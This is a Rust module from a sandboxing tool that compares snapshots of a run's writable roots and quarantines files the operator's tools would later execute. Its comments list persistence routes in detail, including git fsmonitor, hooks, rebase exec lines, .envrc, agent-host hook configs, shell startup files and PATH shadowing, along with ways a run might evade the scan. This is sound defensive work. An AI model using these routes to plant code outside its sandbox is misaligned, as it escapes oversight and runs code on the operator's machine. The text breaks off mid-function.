//! What a run left in its writable roots that makes the operator's tools run code.
//!
//! The kernel keeps a command inside its roots, but what it writes there is read later by
//! programs outside the sandbox: the operator's `git status` (and every git-aware shell
//! prompt) runs `core.fsmonitor` from a repository's config, hooks, filters; direnv loads
//! `.envrc`; editors run workspace tasks and settings. `sandbox.git = "protect"` keeps the
//! root's own `.git` configuration read-only where the backend can; this module covers the
//! rest, on every backend, after the fact:
//!
//! ```text
//!  Snapshot::take(roots)          run           Snapshot::take(roots)
//!        │  (before)                                  │  (after)
//!        └──────────────── compare ◀──────────────────┘
//!                             │
//!              Finding per path that appeared or changed
//!                             │
//!              quarantine: rename to [.]NAME.cordon-quarantine[-N]
//!              (a changed small file gets its earlier content back;
//!               each move journaled first, see `journal.rs`)
//! ```
//!
//! What is watched, in each writable root (a walk that follows no symlinks, stops after
//! [`MAX_ENTRIES`] entries and says so):
//! - git directories: every `.git` (directory, gitdir file or link) and every directory git
//!   would take for a repository (`HEAD`, `objects/`, `refs/`), anywhere; their contents are
//!   not walked, only their configuration surface ([`GIT_CONFIG_SURFACE`]: config, commondir,
//!   hooks, info, modules, worktrees, alternates, …, recursively for `modules/` and
//!   `worktrees/`), and the gitlinks (mode 160000 entries) of their index;
//! - [`TOOL_FILES`]: direnv's `.envrc`, editors' workspace tasks and settings.
//!
//! A snapshot holds paths and metadata (inode, size, mtime, ctime, mode), plus the content of
//! small files of the configuration surface (so a changed `.git/config` can be restored).
//! Comparing is by metadata: ctime cannot be set by the command, so a file rewritten in place
//! with its old size and mtime still differs.
//!
//! What a snapshot costs grows with the roots' directories, not their files: a directory is
//! read (`getdents`) only when its (dev, ino, ctime) changed since a listing cordon read — the
//! "before" snapshot's for the "after" one, the last completed scan's for the "before" one
//! ([`Listings`], kept beside the markers) — and a listing keeps only what the walk looks at
//! ([`kept`]). Every directory still gets one `statx` per snapshot; every watched file too.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::ffi::OsString;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use cordon_policy::surface::hooks::{HOOK_CONFIGS, HOOK_DIRS};

use crate::profile::GIT_CONFIG_SURFACE;

/// Why a file git's configuration includes is watched.
const INCLUDED_WHY: &str =
    "git reads it as configuration (the repository's configuration includes it)";

/// Why a program git's configuration names is watched.
const CONFIGURED_WHY: &str =
    "git's configuration names it as a program (core.fsmonitor, a filter, an alias): git runs it from the work tree's top";

/// Why a program a host's hook configuration names is watched.
const HOOK_PROGRAM_WHY: &str = "an agent host's or a git hook manager's hook configuration names it (a Claude Code or Gemini CLI hook, a Copilot hook file, husky, a pre-commit entry): the host runs it outside any sandbox at its next tool call, git at the next commit";

/// Why a file an `.envrc` loads is watched.
const ENVRC_LOADS_WHY: &str = "an `.envrc` loads it (sources it, reads it as variables or runs it), and direnv checks only the `.envrc` itself: it is taken as it is at the next `cd`";

mod git_state;
mod journal;
mod listings;
pub use journal::Journal;
pub use listings::Listings;

/// The walk stops after this many directory entries per snapshot (and says so; the gate then
/// fails closed: the root's next run is refused until the operator has looked). Large enough
/// that no real tree reaches it (a million entries take about 3 s on a loaded 2-core machine),
/// so that a command cannot hide a plant behind a few hundred thousand names.
pub const MAX_ENTRIES: usize = 2_000_000;
/// Files larger than this are compared by metadata only, and not restored.
const MAX_CONTENT: u64 = 64 * 1024;
/// The earlier contents a run keeps beside its marker ([`Snapshot::kept`]) take at most
/// this many bytes: the marker is read whole.
const KEEP_TOTAL: usize = 1 << 20;
/// v2: every watched path, not only the contents (v1's, not read: a kill across an upgrade
/// leaves the run's changes moved aside, not restored, as before anything was kept).
const KEEP_HEAD: &[u8] = b"cordon kept contents v2\n";
/// A kept path's content length when its content is not kept.
const NO_CONTENT: usize = u32::MAX as usize;
/// The git states a run keeps ([`Snapshot::kept`]) take at most this many bytes.
const KEEP_GIT: usize = 1 << 20;
/// An index larger than this is not parsed (its gitlinks are not compared).
const MAX_INDEX: u64 = 256 * 1024 * 1024;
/// How deep `modules/` nests git directories (submodules of submodules, names with `/`).
const MAX_GIT_DEPTH: usize = 8;
/// A git-state finding names at most this many refs and reflogs that hold it (then "and N
/// more"): enough to undo by, bounded for a run that names one commit from thousands of refs.
const MAX_PLACES: usize = 16;

/// Files, relative to any directory of a root, that a tool of the operator's runs or takes
/// settings from, and why each matters: the persistence surface's (`cordon_policy::surface`).
pub const TOOL_FILES: &[(&str, &str)] = cordon_policy::surface::TOOL_FILES;
/// Directories whose every file a tool runs (Copilot CLI's hooks, opencode's plugins).
pub const TOOL_DIRS: &[(&str, &str)] = cordon_policy::surface::TOOL_DIRS;

/// The todo lists of an interrupted rebase, cherry-pick or revert, in a git directory: git
/// runs their `exec` lines when the operator continues (the surface's).
use cordon_policy::surface::{GIT_TODO_LISTS as TODO_LISTS, GIT_TODO_WHY as TODO_WHY};

const OPERATORS_GIT_WHY: &str = "git's configuration of the operator's (where GIT_CONFIG_GLOBAL, GIT_CONFIG_SYSTEM or XDG_CONFIG_HOME put it): its core.fsmonitor, hooksPath and aliases run in every repository";

/// Whether a todo list holds a line git executes (`exec`/`x`), or is too large to tell.
fn runs_commands(todo: &Seen) -> bool {
    let Some(text) = &todo.content else {
        return todo.id.0 != DIR; // unreadable or too large: assume it does
    };
    cordon_policy::surface::todo_runs_commands(text)
}

const GIT_DIR_WHY: &str = "git finds a repository here and runs its config (a gitlink, a shell prompt or a `git status` in this directory is enough)";

/// What kind of thing a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum What {
    /// A `.git` directory, gitdir file or link: git discovers a repository there and runs its
    /// config (a gitlink or a shell prompt is enough).
    GitDir,
    /// A directory git takes for a repository (bare): its config runs when git is used there,
    /// and a gitdir file or commondir can point at it.
    BareRepository,
    /// Part of a git directory's configuration surface.
    GitConfig,
    /// A gitlink added to a repository's index: `git status` recurses into it and runs the
    /// repository found there.
    Gitlink,
    /// A surface file the run put into git's own state — the index, HEAD's commit or
    /// `refs/stash` — that the operator's `git checkout`, `git reset --hard` or `git stash
    /// pop` would write out (or a repository whose such state cordon could not read).
    GitState,
    /// One of [`TOOL_FILES`].
    ToolFile,
    /// An interrupted rebase's or cherry-pick's todo list that runs commands.
    TodoList,
    /// A default place of cordon's trust store that did not exist before the run (see
    /// [`MissingPlace`]).
    TrustStore,
    /// A directory the scan cannot list (no read permission for cordon's user): what it holds
    /// cannot be checked, yet a file in it can still be opened by name.
    Unlistable,
}

impl What {
    const ALL: [What; 9] = [
        What::GitDir,
        What::BareRepository,
        What::GitConfig,
        What::Gitlink,
        What::GitState,
        What::ToolFile,
        What::TodoList,
        What::TrustStore,
        What::Unlistable,
    ];

    /// The kind a [`What::tag`] names.
    pub fn from_tag(tag: &str) -> Option<What> {
        What::ALL.into_iter().find(|w| w.tag() == tag)
    }

    pub fn tag(self) -> &'static str {
        match self {
            What::GitDir => "git-dir",
            What::BareRepository => "bare-repository",
            What::GitConfig => "git-config",
            What::Gitlink => "gitlink",
            What::GitState => "git-state",
            What::ToolFile => "tool-file",
            What::TodoList => "todo-list",
            What::TrustStore => "trust-store",
            What::Unlistable => "unlistable-dir",
        }
    }
}

/// Whether the path is new or was there before the run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Change {
    Appeared,
    Changed,
    /// There before the run, gone after it: a hook the operator relies on (a secret scanner's
    /// `pre-commit`), cordon's own hook in `.claude/settings.json`, a `.git/config` whose
    /// absence lets git find an outer repository. Written back where its content is known.
    Removed,
}

impl Change {
    /// The word for it, in a message or a record.
    pub fn word(self) -> &'static str {
        match self {
            Change::Appeared => "appeared",
            Change::Changed => "changed",
            Change::Removed => "removed",
        }
    }
}

/// What cordon did about a finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Handling {
    /// Renamed here; nothing is deleted.
    Quarantined(PathBuf),
    /// Renamed here, and the content from before the run written back in its place.
    Restored(PathBuf),
    /// Left in place (with the reason: a gitlink is in the index, which cordon does not
    /// rewrite; a rename that failed).
    Reported(String),
    /// Removed by the run, and written back here with the content, mode and owner it had
    /// before (a directory: made again, with what cordon knew of the files in it).
    Recreated,
    /// Renamed here; the earlier content could not be written back (why: a full disk, which
    /// the command may have filled) nor journaled: it is in what the run kept ([`Kept`]), for
    /// the next run over the root to write back ([`Kept::write_back_missing`]).
    Unrestored(PathBuf, String),
}

/// One path the run left that the operator's tools run or read as configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub path: PathBuf,
    pub what: What,
    pub change: Change,
    /// Why it matters, in words.
    pub why: String,
    pub handling: Handling,
}

impl Finding {
    /// One line for `cordon: warning: …`.
    pub fn message(&self) -> String {
        let change = self.change.word();
        let done = match &self.handling {
            Handling::Quarantined(to) => format!("moved aside to {}", to.display()),
            Handling::Restored(to) => format!(
                "the run's version moved aside to {}, the earlier content restored",
                to.display()
            ),
            Handling::Reported(why) => format!("left in place: {why}"),
            Handling::Recreated => "written back with its earlier content".into(),
            Handling::Unrestored(to, why) => format!(
                "the run's version moved aside to {}; the earlier content could not be written back ({why}): the next run over this root writes it back from what this run kept",
                to.display()
            ),
        };
        if self.change == Change::Removed {
            let done = match &self.handling {
                Handling::Reported(why) => format!("NOT restored: {why}"),
                _ => done,
            };
            return format!(
                "the run removed {} ({}): {}; {done}",
                self.path.display(),
                self.what.tag(),
                self.why
            );
        }
        format!(
            "the run left {} ({change}, {}): {}; {done}",
            self.path.display(),
            self.what.tag(),
            self.why
        )
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Seen {
    what: What,
    /// Why it is watched: one of the walk's reasons, or as a dead run kept it ([`Kept`]).
    why: std::borrow::Cow<'static, str>,
    /// (type, dev, ino) for directories; with size, mtime, ctime and mode for the rest.
    id: Id,
    content: Option<Vec<u8>>,
    mode: u32,
    owner: (u32, u32),
}

impl Seen {
    /// What a regular file gets back when a run changed it: its content (when small enough
    /// to have been read, [`MAX_CONTENT`]), mode and owner.
    fn earlier(&self) -> Option<journal::Earlier> {
        (self.id.0 == FILE).then_some(())?;
        Some(journal::Earlier {
            content: self.content.clone()?,
            mode: self.mode,
            owner: self.owner,
        })
    }
}

/// Whether `now` at `path` is what `was` was under another inode: a regular file with the
/// same content, mode and owner and no other name (a hard link's other name, outside the
/// watched paths, would change it later), or a directory with the same mode and owner (what
/// lies below it is compared path by path).
fn as_it_was(path: &Path, was: &Seen, now: &Seen) -> bool {
    use std::os::unix::fs::MetadataExt;
    match (was.id.0, now.id.0) {
        (DIR, DIR) => was.mode == now.mode && was.owner == now.owner,
        (FILE, FILE) => {
            was.earlier().is_some()
                && was.earlier() == now.earlier()
                && std::fs::symlink_metadata(path).is_ok_and(|m| m.is_file() && m.nlink() == 1)
        }
        _ => false,
    }
}

/// The watched paths of the writable roots at one moment.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    seen: BTreeMap<PathBuf, Seen>,
    /// Index file → the gitlinks' paths in it (relative to the worktree, as git stores them).
    gitlinks: BTreeMap<PathBuf, BTreeSet<Vec<u8>>>,
    /// Git directory → what of its index, refs and reflogs the operator's git could write out.
    git: BTreeMap<PathBuf, git_state::GitState>,
    /// While a snapshot is taken: the earlier snapshot's reads of each git directory's refs
    /// and reflogs, and when it began (see `git_state::Reads`).
    earlier_git: HashMap<PathBuf, (git_state::Reads, SystemTime)>,
    /// While a snapshot is taken: submodules' git directories (`modules/NAME`), whose state is
    /// recorded after the walk, for the worktree a `.git` file the walk found names, else for
    /// none (see [`Snapshot::git_state`]).
    modules: Vec<PathBuf>,
    /// Each directory's listing, with what identifies its state (see [`Snapshot::take_with`]).
    listings: HashMap<PathBuf, Listing>,
    /// When the snapshot began.
    started: Option<SystemTime>,
    /// The walk stopped at [`MAX_ENTRIES`]: what lies beyond was not looked at.
    pub truncated: bool,
    /// Directory entries visited.
    pub entries: usize,
    /// Directories read (the rest were known unchanged from an earlier snapshot).
    pub listed: usize,
    /// The writable roots the snapshot is of: where the target of a link in a watched
    /// directory is watched too ([`Snapshot::list`]).
    roots: Vec<PathBuf>,
    /// The operator's direnv loads `.env` files as it runs `.envrc`
    /// (`cordon_policy::surface::dotenv_by_direnv`): each is watched as `.envrc` is.
    dotenv: bool,
    /// Nothing is put back from this snapshot's contents ([`Snapshot::forget_contents`]).
    no_restore: bool,
    /// What the operator's shell startup files named when this snapshot was taken, with what
    /// they named at the earlier one ([`Snapshot::environment`]).
    startup_named: Vec<cordon_policy::surface::EnvPlace>,
    /// What the first of the runs over these roots still going kept before its command
    /// began ([`Snapshot::restore_from`]): what is put back, instead of this snapshot's
    /// contents, which may hold another run's plant.
    base: Option<Box<Kept>>,
    /// What the operator's shell startup files named, with the stamps of the files it was
    /// read from ([`Snapshot::startup_places`]): kept for the next snapshot, and between runs
    /// with the listings ([`Listings`]).
    startup: Option<Box<StartupRead>>,
}

/// One reading of the shell startup files under `home` (`surface::startup::places_read`):
/// its places, and each file it consulted with that file's stamp then (`None`: missing), each
/// stamp older than the reading by [`SETTLED`] (so a change made in the same tick of the
/// kernel's coarse clock as the reading cannot carry the same stamp).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct StartupRead {
    home: PathBuf,
    files: Vec<(PathBuf, Option<git_state::Stamp>)>,
    places: Vec<cordon_policy::surface::EnvPlace>,
}

/// A directory's entries that the walk looks at ([`kept`]: its subdirectories and the names it
/// compares), how many entries it has in all (the walk's limit counts every name), and its
/// (dev, ino, ctime) when they were read.
#[derive(Debug, Clone)]
struct Listing {
    state: DirState,
    /// Shared with the walk that reads it, and with the next snapshot that reuses it.
    names: Names,
    /// Every entry, kept or not.
    count: usize,
}

/// Whether the walk must look at a plain file or link by this name: every name starting with
/// a dot, a tool file's name (`opencode.json`), or the first name of an entry below a
/// directory (`mise` of `mise/config.toml`: `ln -s cfg mise` makes `cfg/config.toml` mise's).
/// Other plain names are skipped without a `stat`, and not kept in a listing ([`kept`]).
fn watched(name: &[u8]) -> bool {
    watched_as_is(name)
        || fold_name(std::ffi::OsStr::from_bytes(name)).is_some_and(|f| watched_as_is(f.as_bytes()))
}

/// `name` as a file system that ignores case reads it, when that differs (`surface::folded`):
/// on macOS or in an ext4 casefold directory `.ENVRC` is direnv's `.envrc`. Most names need no
/// folding (no upper case, nothing beyond ASCII) and cost nothing.
fn fold_name(name: &std::ffi::OsStr) -> Option<OsString> {
    let b = name.as_bytes();
    if !b.iter().any(|c| c.is_ascii_uppercase() || *c >= 0x80) {
        return None;
    }
    cordon_policy::surface::folded(Path::new(name)).map(PathBuf::into_os_string)
}

fn watched_as_is(name: &[u8]) -> bool {
    // The tool entries' first names, gathered once: this runs for every name the walk lists
    // and every path of a changed index (a 30,000-entry index took 0.4 s of CPU, debug, when
    // each name was compared with each entry's split path).
    static FIRST: std::sync::OnceLock<std::collections::HashSet<&'static [u8]>> =
        std::sync::OnceLock::new();
    let first = FIRST.get_or_init(|| {
        TOOL_FILES
            .iter()
            .chain(TOOL_DIRS)
            .filter_map(|(r, _)| r.as_bytes().split(|&c| c == b'/').next())
            .collect()
    });
    name.starts_with(b".")
        || first.contains(name)
        || cordon_policy::surface::tool_suffix(name).is_some()
}

/// Whether a listing keeps an entry: a directory (walked), a watched name, or one of the names
/// that make a directory a repository (`HEAD`, `objects`, `refs`, `commondir`:
/// [`cordon_policy::surface::is_git_dir_by`]). The rest — most of a project's files — is
/// only counted: what the walk never looks at is not kept, nor carried between runs
/// ([`Listings`]).
fn kept(name: &[u8], is_dir: bool) -> bool {
    is_dir || watched(name) || matches!(name, b"HEAD" | b"objects" | b"refs" | b"commondir")
}

/// How long before a snapshot a directory's ctime must lie for its listing to be reused:
/// the kernel stamps ctime from a coarse clock, so a change made just after the snapshot could
/// carry the same stamp as one made just before it.
const SETTLED: Duration = Duration::from_secs(2);

const DIR: u32 = 1;
const FILE: u32 = 2;
/// A directory cordon cannot list ([`What::Unlistable`]): compared by mode and ctime too.
const UNLISTABLE: u32 = 5;

fn identity(m: &std::fs::Metadata) -> Id {
    let t = m.file_type();
    let kind = if t.is_dir() {
        DIR
    } else if t.is_file() {
        FILE
    } else if t.is_symlink() {
        3
    } else {
        4
    };
    if m.is_dir() {
        (kind, m.dev(), m.ino(), 0, 0, 0, 0, 0, 0)
    } else {
        (
            kind,
            m.dev(),
            m.ino(),
            m.size(),
            m.mtime(),
            m.mtime_nsec(),
            m.ctime(),
            m.ctime_nsec(),
            m.mode(),
        )
    }
}

/// A small regular file's content, read without following a link or blocking on a FIFO.
fn small_content(path: &Path) -> Option<Vec<u8>> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC)
        .open(path)
        .ok()?;
    let m = f.metadata().ok()?;
    if !m.is_file() || m.len() > MAX_CONTENT {
        return None;
    }
    let mut buf = Vec::with_capacity(m.len() as usize);
    f.take(MAX_CONTENT + 1).read_to_end(&mut buf).ok()?;
    Some(buf)
}

/// A directory's identity and when its names last changed: device, inode, ctime (s, ns).
type DirState = (u64, u64, i64, i64);

/// A directory's names, each with whether it is a directory.
type Names = std::sync::Arc<[(OsString, bool)]>;

/// What [`list`] read: the directory's state, its [`kept`] names, how many entries in all.
type Read = (DirState, Vec<(OsString, bool)>, usize);

/// A directory's state, its [`kept`] names, each with whether it is a directory (a link is
/// not), and how many entries it has in all, read through one descriptor: one path lookup, one
/// `fstat`, `getdents` into a 32 KiB buffer. `None` when `dir` is not a directory (a link to
/// one included) or cannot be read.
#[cfg(target_os = "linux")]
fn list(dir: &Path) -> Option<Read> {
    use rustix::fs::{AtFlags, FileType, Mode, OFlags, RawDir};
    let fd = rustix::fs::open(
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .ok()?;
    let st = rustix::fs::fstat(&fd).ok()?;
    #[allow(clippy::unnecessary_cast)] // the field types differ between architectures
    let state = (
        st.st_dev as u64,
        st.st_ino as u64,
        st.st_ctime as i64,
        st.st_ctime_nsec as i64,
    );
    let mut buf = Vec::with_capacity(32 * 1024);
    let mut raw = RawDir::new(&fd, buf.spare_capacity_mut());
    let mut names = Vec::new();
    let mut count = 0;
    while let Some(entry) = raw.next() {
        // An error part way: the names read so far (as a listing that stops early did).
        let Ok(entry) = entry else { break };
        let name = entry.file_name().to_bytes();
        if name == b"." || name == b".." {
            continue;
        }
        count += 1;
        let is_dir = match entry.file_type() {
            FileType::Directory => true,
            // A file system that does not say the type in its listing: asked of the entry.
            FileType::Unknown => {
                rustix::fs::statat(&fd, entry.file_name(), AtFlags::SYMLINK_NOFOLLOW)
                    .is_ok_and(|st| FileType::from_raw_mode(st.st_mode) == FileType::Directory)
            }
            _ => false,
        };
        if kept(name, is_dir) {
            names.push((OsString::from_vec(name.to_vec()), is_dir));
        }
    }
    Some((state, names, count))
}

/// [`list`] where there is no `getdents`: `lstat`, then the standard library's listing.
#[cfg(not(target_os = "linux"))]
fn list(dir: &Path) -> Option<Read> {
    let m = std::fs::symlink_metadata(dir).ok()?;
    if !m.is_dir() {
        return None;
    }
    let state = (m.dev(), m.ino(), m.ctime(), m.ctime_nsec());
    let all: Vec<(OsString, bool)> = std::fs::read_dir(dir)
        .ok()?
        .flatten()
        .map(|e| (e.file_name(), e.file_type().is_ok_and(|t| t.is_dir())))
        .collect();
    let count = all.len();
    let names = all
        .into_iter()
        .filter(|(n, d)| kept(n.as_bytes(), *d))
        .collect();
    Some((state, names, count))
}

impl Snapshot {
    /// Records the watched paths of `roots` (absolute, canonical).
    pub fn take(roots: &[PathBuf]) -> Snapshot {
        Snapshot::take_with(roots, MAX_ENTRIES, None)
    }

    #[cfg(test)]
    fn take_within(roots: &[PathBuf], limit: usize) -> Snapshot {
        Snapshot::take_with(roots, limit, None)
    }

    /// [`Snapshot::take`] with a limit on the walk, and an `earlier` snapshot whose listings
    /// are reused for directories that did not change since: a directory's ctime moves with
    /// every name created, removed or renamed in it and cannot be set back by the command, so
    /// the same (dev, ino, ctime), older than the earlier snapshot by [`SETTLED`], means the
    /// same names. Each still gets a `stat`; watched names in it are checked one by one as
    /// always (a file changed in place leaves its directory alone). Each root's own `.git`
    /// (its configuration surface and index) is recorded whatever the limit.
    pub fn take_with(roots: &[PathBuf], limit: usize, earlier: Option<&Snapshot>) -> Snapshot {
        let _links = LinksScope::enter();
        let mut s = Snapshot {
            started: Some(SystemTime::now()),
            // As many directories as last time, most likely: no rehash while walking.
            listings: HashMap::with_capacity(earlier.map_or(0, |e| e.listings.len())),
            roots: roots.to_vec(),
            ..Snapshot::default()
        };
        let home = std::env::var_os("HOME")
            .map(PathBuf::from)
            .filter(|h| h.is_absolute())
            .and_then(|h| std::fs::canonicalize(h).ok());
        if let Some((e, t)) = earlier.and_then(|e| Some((e, e.started?))) {
            for (d, g) in &e.git {
                s.earlier_git.insert(d.clone(), (g.reads().clone(), t));
            }
        }
        for root in roots {
            s.root_git_dir(root);
            s.operator_hooks(root);
            s.within_root(root, home.as_deref());
            // An `.envrc` above the root may load a file in it (the walk reads those in it).
            // So may a host's hook configuration above it (`~/.claude/settings.json`, the
            // project's when the root is a subdirectory).
            for dir in root.ancestors().skip(1) {
                s.envrc_loads(dir, root);
                // (One `lstat` per first name, not a failed open per entry: above the root
                // there is no listing.)
                let mut firsts: Vec<&str> = HOOK_CONFIGS
                    .iter()
                    .chain(HOOK_DIRS)
                    .map(|e| e.split('/').next().unwrap_or(e))
                    .collect();
                firsts.sort_unstable();
                firsts.dedup();
                let here: Vec<&str> = firsts
                    .into_iter()
                    .filter(|f| std::fs::symlink_metadata(dir.join(f)).is_ok())
                    .collect();
                if !here.is_empty() {
                    s.hook_programs(dir, root, &|e| {
                        here.contains(&e.split('/').next().unwrap_or(e))
                    });
                }
            }
        }
        // The operator's home, where a root holds it: its dotfiles configure every shell, git
        // and ssh the operator runs (recorded whatever the walk's limit).
        s.dotenv =
            cordon_policy::surface::dotenv_by_direnv(home.as_deref(), &|v| std::env::var_os(v));
        // The home in no root, but some of its surface kept in one through the operator's
        // links (GNU stow's `~/.bashrc -> dotfiles/bashrc`, `~/.config/nvim ->
        // ../dotfiles/nvim`, with `dotfiles` the root): watched where it really is.
        if let Some(home) = home
            .as_ref()
            .filter(|h| !roots.iter().any(|r| h.starts_with(r)))
        {
            for l in cordon_policy::surface::home_linked(home) {
                if !roots.iter().any(|r| l.real.starts_with(r)) {
                    continue;
                }
                if s.note(l.real.clone(), What::ToolFile, l.why, true) && l.dir {
                    s.list(&l.real, What::ToolFile, l.why, 0);
                }
            }
        }
        if let Some(home) = &home {
            s.home_surface(home, roots);
            // The directories the home's files name as code a host runs in place, wherever
            // they are: Claude Code's marketplaces, Gemini CLI's linked extensions.
            // A relative one is the session's: taken from each root (a session started there).
            let sources = cordon_policy::surface::hooks::home_plugin_sources(home);
            for root in roots {
                for (dir, why) in sources.below(root) {
                    s.named_dirs([dir], root, What::ToolFile, why);
                }
            }
        }
        s.host_homes(roots, &|n| std::env::var_os(n));
        s.environment(roots, home.as_deref(), earlier, &|n| std::env::var_os(n));
        for root in roots {
            s.walk(root, limit, earlier);
        }
        // A submodule's git directory whose worktree no `.git` file in a root leads to (it
        // lies outside the roots, or the operator deinitialized it): its refs and index are
        // what the operator's `git submodule update` and a checkout in it write out.
        for gd in std::mem::take(&mut s.modules) {
            s.git_state(&gd, &gd);
        }
        s.earlier_git.clear();
        s
    }

    /// The home's surface ([`cordon_policy::surface::HOME_FILES`], `HOME_DIRS`, the user
    /// site-packages, [`TOOL_DIRS`] at the home) where a root holds the home, whatever the
    /// walk's limit. A root below the home instead (`~/.claude`, `~/.config/nvim` as a root)
    /// holds part of it, which [`Snapshot::within_root`] watches, as it does any root below
    /// a name of the surface. Each recorded where it really is (the links on the way resolved,
    /// the last component as it is) when that lies in a root: `~/.config` is often a link into
    /// a dotfiles checkout, and what is found is moved aside by a walk that follows no link.
    fn home_surface(&mut self, home: &Path, roots: &[PathBuf]) {
        use cordon_policy::surface::{HOME_DIRS, HOME_FILES};
        if !roots.iter().any(|r| home.starts_with(r)) {
            return;
        }
        for (rel, why) in HOME_FILES {
            self.note_file(real_in(&home.join(rel), roots), why, roots);
        }
        // The directories whose every file runs at the next login, shell, editor or agent
        // start; the plugin and hook directories by their path too: the walk (which follows
        // no link) sees `dotfiles/config/opencode/plugin`, a path no name marks.
        for (rel, why) in HOME_DIRS.iter().chain(TOOL_DIRS) {
            let dir = real_in(&home.join(rel), roots);
            if self.note(dir.clone(), What::ToolFile, why, true) {
                self.list(&dir, What::ToolFile, why, 0);
            }
        }
        self.python_startup(home, roots);
    }

    /// The user site-packages of each Python under `home` (`.local/lib/python*/site-packages`),
    /// and what every start of that Python runs in it (`*.pth`, `usercustomize.py`).
    fn python_startup(&mut self, home: &Path, roots: &[PathBuf]) {
        use cordon_policy::surface::{python_startup, PYTHON_STARTUP};
        let lib = real_in(&home.join(".local/lib"), roots);
        let Ok(rd) = std::fs::read_dir(&lib) else {
            return;
        };
        for e in rd.flatten() {
            if !e.file_name().as_encoded_bytes().starts_with(b"python") {
                continue;
            }
            let site = e.path().join("site-packages");
            let Ok(rd) = std::fs::read_dir(&site) else {
                continue;
            };
            for f in rd.flatten() {
                self.entries += 1;
                if python_startup(&f.file_name()) {
                    self.note(f.path(), What::ToolFile, PYTHON_STARTUP, true);
                }
            }
        }
    }

    /// A host's directory that the environment moved into a root (`$CODEX_HOME`,
    /// `$COPILOT_HOME`, `$XDG_CONFIG_HOME`: `cordon_policy::surface::HOST_HOMES`): its settings
    /// and plugin directories, as they are watched at the home (`$CODEX_HOME/hooks.json` is
    /// `~/.codex/hooks.json`), whatever the walk's limit. One that does not exist is not
    /// watched (a run could create it; the host then reads it).
    fn host_homes(&mut self, roots: &[PathBuf], var: &dyn Fn(&str) -> Option<OsString>) {
        use cordon_policy::surface::{HOME_DIRS, HOME_FILES, HOST_HOMES};
        for (name, below_home) in HOST_HOMES {
            let Some(dir) = var(name)
                .map(PathBuf::from)
                .filter(|d| d.is_absolute())
                .and_then(|d| std::fs::canonicalize(d).ok())
                .filter(|d| roots.iter().any(|r| d.starts_with(r)))
            else {
                continue;
            };
            let below = |rel: &'static str| rel.strip_prefix(below_home)?.strip_prefix('/');
            for (rel, why) in HOME_FILES.iter().chain(TOOL_FILES) {
                if let Some(rest) = below(rel) {
                    self.note(dir.join(rest), What::ToolFile, why, true);
                }
            }
            // (`HOME_DIRS` too: `$XDG_CONFIG_HOME/systemd/user`, `…/nvim`, `…/direnv/lib`.)
            for (rel, why) in TOOL_DIRS.iter().chain(HOME_DIRS) {
                if let Some(rest) = below(rel) {
                    let tool_dir = dir.join(rest);
                    if self.note(tool_dir.clone(), What::ToolFile, why, true) {
                        self.list(&tool_dir, What::ToolFile, why, 0);
                    }
                }
            }
        }
    }

    /// What the operator's environment, and the shell startup files at `home`
    /// (`surface::startup`: rustup's `~/.cargo/env`, nvm's `nvm.sh`, what they put on the
    /// PATH), make a program run from a root (`surface::environment_places`, the file tools'
    /// reading of it too): each program
    /// directly in a directory on the PATH (`~/.cargo/bin/git` taken for the next `git`),
    /// each file a variable names (`BASH_ENV`, `EDITOR`, …), whatever the walk's limit. A PATH
    /// directory that does not exist yet is watched too: the run could make it, and the
    /// operator's shell looks there at the next command. The directories of `ENV_LOAD_DIRS`
    /// (`PYTHONPATH=proj/src`) are the file tools' only: every file below one is loaded, and
    /// moving aside each edit of a project's own source would undo the run's work.
    ///
    /// The startup files are read now and as the `earlier` snapshot read them: a run that
    /// rewrote `~/.bashrc` without its loop over `~/.bashrc.d/*` (a change the scan undoes)
    /// hid its plant there from a reading of the rewritten file, and the restored `.bashrc`
    /// sourced it at the next shell.
    fn environment(
        &mut self,
        roots: &[PathBuf],
        home: Option<&Path>,
        earlier: Option<&Snapshot>,
        var: &dyn Fn(&str) -> Option<OsString>,
    ) {
        use cordon_policy::surface::{environment_places, EnvKind};
        let mut named = home
            .map(|h| self.startup_places(h, earlier))
            .unwrap_or_default();
        for place in earlier.map_or(&[][..], |e| &e.startup_named[..]) {
            if !named.contains(place) {
                named.push(place.clone());
            }
        }
        self.startup_named = named.clone();
        let at_startup = named;
        for place in environment_places(var).into_iter().chain(at_startup) {
            let at = canonical(&place.path)
                .unwrap_or_else(|| real_in(&cordon_fs::links::lexical(&place.path), roots));
            if !roots.iter().any(|r| at.starts_with(r)) {
                continue;
            }
            match place.kind {
                EnvKind::PathDir => self.programs_in(&at, place.why),
                EnvKind::File => {
                    self.note_file(at, place.why, roots);
                }
                EnvKind::LoadDir => {}
            }
        }
    }

    /// What the operator's shell startup files under `home` name (`surface::startup::places`),
    /// taken from `earlier`'s reading where it is of the same home and every file it consulted
    /// has the same stamp now (one `stat` each instead of an open, reads and a close, and no
    /// parsing), else read now. The reading is kept in this snapshot only when each file's
    /// stamp, taken after it was read, is older than the reading by [`SETTLED`] and agrees
    /// with it (a file read is there still): then no change after the reading can have left
    /// the stamp kept, so a later match means the same text.
    fn startup_places(
        &mut self,
        home: &Path,
        earlier: Option<&Snapshot>,
    ) -> Vec<cordon_policy::surface::EnvPlace> {
        self.startup_places_at(home, earlier, SystemTime::now())
    }

    /// [`Snapshot::startup_places`], a reading done now taken as begun at `began` (tests: as
    /// if the files had been written long before).
    fn startup_places_at(
        &mut self,
        home: &Path,
        earlier: Option<&Snapshot>,
        began: SystemTime,
    ) -> Vec<cordon_policy::surface::EnvPlace> {
        let stamp_now = |f: &Path| std::fs::metadata(f).ok().map(|m| git_state::stamp(&m));
        if let Some(e) = earlier
